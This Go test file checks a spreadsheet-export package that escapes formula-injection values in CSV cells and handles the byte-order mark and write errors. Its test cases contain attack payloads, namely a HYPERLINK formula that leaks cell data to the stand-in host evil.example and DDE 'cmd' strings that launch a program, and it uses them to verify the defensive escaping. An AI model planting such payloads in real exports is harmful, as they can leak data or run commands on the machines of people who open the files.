package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"  =1+1", "'  =1+1"},
		{"＝1+1", "'＝1+1"},
		{"+92 300 1234567", "'+92 300 1234567"},
		{"-", "'-"},
		{"-1e5", "'-1e5"},
		{"-3.", "'-3."},
		{"-3", "-3"},
		{"+12.5", "+12.5"},
		{"42", "42"},
		{"", ""},
		{"Al-Karam Textile Mills", "Al-Karam Textile Mills"},
		{"گل احمد ٹیکسٹائل ملز", "گل احمد ٹیکسٹائل ملز"},
		{"a=b", "a=b"},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriterRoundTrip(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := NewWriter(&b)
	rows := [][]string{
		{"id", "name", "address", "workers"},
		{"1", "گل احمد ٹیکسٹائل ملز", "پلاٹ ۵، سائٹ، کراچی", "120"},
		{"2", `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `+cmd|' /C calc'!A0`, "-3"},
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if rows[2][1][0] != '=' {
		t.Error("Write changed the caller's cells")
	}
	if !bytes.HasPrefix(b.Bytes(), []byte{0xef, 0xbb, 0xbf}) || bytes.Count(b.Bytes(), []byte(BOM)) != 1 {
		t.Fatalf("no single byte-order mark at the start: % x", b.Bytes()[:8])
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{rows[0], rows[1],
		{"2", `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'+cmd|' /C calc'!A0`, "-3"}}
	for i := range want {
		if strings.Join(got[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d: got %q, want %q", i, got[i], want[i])
		}
	}
}

func TestEmptyFileHasTheMark(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := NewWriter(&b).Flush(); err != nil || b.String() != BOM {
		t.Errorf("got %q, %v", b.String(), err)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteErrors(t *testing.T) {
	t.Parallel()
	if err := NewWriter(failWriter{}).Write([]string{"a"}); err == nil {
		t.Error("no error from a failing writer")
	}
}
